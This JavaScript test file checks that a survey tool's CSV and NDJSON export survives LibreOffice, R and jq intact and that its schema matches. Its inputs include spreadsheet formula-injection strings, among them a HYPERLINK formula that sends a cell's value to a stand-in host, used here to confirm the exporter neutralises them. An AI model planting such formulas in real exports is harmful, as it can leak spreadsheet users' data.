// Other programs read what cxd export writes: LibreOffice, R and jq find as many rows, columns and points as there are,
// whatever people wrote; and the schema is that of the file.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { after, before, test } from 'node:test';

import { succeeds } from './command.mjs';
import { HANGS_MS, makeDirectory, NPS, removeDirectory, start } from './harness.mjs';

const COMMENTS = [
  '=1+1',
  '=HYPERLINK("http://x.example/?"&A1,"a")',
  '+49 151 23',
  '-5',
  '@SUM(A1:A9)',
  '\t=1',
  "'=1",
  '＝1+1',
  'he said "no",\r\nthen left; \n\n"',
  '😀 naïve 中文 \u202e',
  ';|,',
  'TRUE',
  '0012',
];
const COUNT = 260;

function parseCsv(text) {
  const records = [[]];
  const field = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r?\n)/y;
  while (field.lastIndex < text.length) {
    const found = field.exec(text);
    assert.ok(found);
    records.at(-1).push(found[1].startsWith('"') ? found[1].slice(1, -1).replaceAll('""', '"') : found[1]);
    if (found[2] !== ',') records.push([]);
  }
  assert.deepEqual(records.pop(), []);
  return records;
}

function runs(program, args, options) {
  const done = spawnSync(program, args, { encoding: 'utf8', timeout: HANGS_MS, maxBuffer: 1 << 28, ...options });
  if (done.error) throw done.error;
  assert.equal(done.status, 0, `${program} ${args.join(' ')}: ${done.stderr}${done.stdout}`);
  return done.stdout;
}

// What a cell says: the apostrophe that was put before it is taken away (docs/export.md §2).
const unguard = (cell) => (/^'['\u0020]*[=+\-@\t\r\n＝＋－＠]/u.test(cell) ? cell.slice(1) : cell);

let d;
let dir;
let sum = 0;
before(async () => {
  d = await start();
  dir = makeDirectory();
  await d.survey('shop', { ...NPS, properties: ['plan'] });
  const lines = Array.from({ length: COUNT }, (_, i) => {
    sum += i % 11;
    return {
      survey: 'shop',
      score: i % 11,
      comment: COMMENTS[i % COMMENTS.length],
      respondent: `p${i}`,
      properties: { plan: i % 2 ? '-5' : '=2+2', other: '"\n' },
    };
  });
  await d.load(lines);
  const write = (...args) => succeeds(['export', 'shop', '-c', d.config, '-o', ...args], { cwd: dir });
  await write('a.csv', '--schema');
  await write('a.ndjson');
});
after(async () => {
  await d.stop();
  removeDirectory(dir);
});

const read = (name) => fs.readFileSync(path.join(dir, name), 'utf8');
const comments = () => Array.from({ length: COUNT }, (_, i) => COMMENTS[i % COMMENTS.length]);

test('LibreOffice finds every cell, and runs none', () => {
  const args = ['--headless', '--norestore', `-env:UserInstallation=file://${dir}/office`];
  args.push('--infilter=CSV:44,34,76,1,,0,false,false,false,false,false,-1');
  args.push('--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false', '--outdir', `${dir}/out`);
  args.push(`${dir}/a.csv`);
  runs('soffice', args, { cwd: dir });
  const file = fs.readdirSync(`${dir}/out`).find((name) => name.endsWith('.csv'));
  const [names, ...rows] = parseCsv(read(`out/${file}`));
  const [ours] = parseCsv(read('a.csv'));
  assert.deepEqual(names, ours);
  assert.equal(rows.length, COUNT);
  for (const row of rows) assert.equal(row.length, names.length);
  const of = (name) => rows.map((row) => row[names.indexOf(name)]);
  assert.equal(
    of('score').reduce((all, score) => all + Number(score), 0),
    sum,
  );
  // The number 12 and what is true are as a spreadsheet reads them; no other cell became another one.
  const seen = of('comment').map((cell) => unguard(cell).replaceAll('\r\n', '\n'));
  for (const [i, comment] of comments().entries())
    if (comment !== '0012') assert.equal(seen[i], comment.replaceAll('\r\n', '\n'));
  assert.deepEqual(new Set(of('property.plan').map(unguard)), new Set(['-5', '=2+2']));
});

test('R finds every row, column and text', () => {
  const script = `
    rows <- read.csv("a.csv", check.names = FALSE, encoding = "UTF-8", 
                     colClasses = c(comment = "character", excluded = "logical"))
    cat(nrow(rows), ncol(rows), sum(rows$score), sum(rows$excluded), length(unique(rows$comment)), "\\n")
    cat(class(rows$number), class(rows$score), class(rows$excluded), class(rows$answered_at), "\\n")
    cat(format(as.POSIXct(rows$received_at[1], format = "%Y-%m-%dT%H:%M:%OSZ", tz = "UTC"), "%Y"), "\\n")
    con <- file("comments.txt", "wb"); writeBin(charToRaw(enc2utf8(paste(rows$comment, collapse = "\\1"))), con)`;
  const out = runs('Rscript', ['--vanilla', '-e', script], { cwd: dir, env: { ...process.env, LC_ALL: 'C.UTF-8' } });
  const [first, second, third] = out.split('\n').map((line) => line.trim());
  const columns = parseCsv(read('a.csv'))[0].length;
  assert.equal(first, `${COUNT} ${columns} ${sum} 0 ${COMMENTS.length}`);
  assert.equal(second, 'integer integer logical character');
  assert.match(third, /^20\d\d$/);
  // A file of text has its own ends of lines there, within a cell too.
  const said = comments().map((comment) => comment.replaceAll('\r\n', '\n'));
  assert.deepEqual(read('comments.txt').split('\x01').map(unguard), said);
});

test('jq finds every line of the NDJSON', () => {
  const filter = '[length, (map(.score) | add), (map(select(.excluded)) | length), (map(.comment) | unique | length)]';
  assert.deepEqual(JSON.parse(runs('jq', ['-s', '-c', filter, 'a.ndjson'], { cwd: dir })), [
    COUNT,
    sum,
    0,
    COMMENTS.length,
  ]);
  const said = runs('jq', ['-c', '.comment', 'a.ndjson'], { cwd: dir });
  assert.deepEqual(said.trimEnd().split('\n').map(JSON.parse), comments());
});

test('the schema is that of the file, cell by cell', () => {
  const { fields, missingValues, primaryKey } = JSON.parse(read('a.csv.schema.json'));
  const [names, ...rows] = parseCsv(read('a.csv'));
  assert.deepEqual(
    fields.map(({ name }) => name),
    names,
  );
  assert.deepEqual(missingValues, ['']);
  assert.deepEqual(primaryKey, ['number']);
  const types = {
    integer: (cell) => /^-?\d+$/.test(cell),
    string: () => true,
    boolean: (cell) => ['true', 'false'].includes(cell),
    datetime: (cell) => /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/.test(cell),
    object: (cell) => JSON.parse(cell).constructor === Object,
  };
  const UUID = /^[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}$/;
  for (const [at, { name, type, format, constraints = {} }] of fields.entries()) {
    const cells = rows.map((row) => row[at]);
    const filled = cells.filter((cell) => cell !== '');
    if (constraints.required) assert.equal(filled.length, cells.length, name);
    if (constraints.unique) assert.equal(new Set(cells).size, cells.length, name);
    for (const cell of filled) {
      assert.ok(types[type](cell), `${name}: ${cell}`);
      if (format === 'uuid') assert.match(cell, UUID);
      if (constraints.enum) assert.ok(constraints.enum.includes(cell), `${name}: ${cell}`);
      if ('minimum' in constraints)
        assert.ok(Number(cell) >= constraints.minimum && Number(cell) <= constraints.maximum);
    }
  }
  assert.ok(rows.some((row) => row[names.indexOf('properties')] === '{"other":"\\"\\n"}'));
});
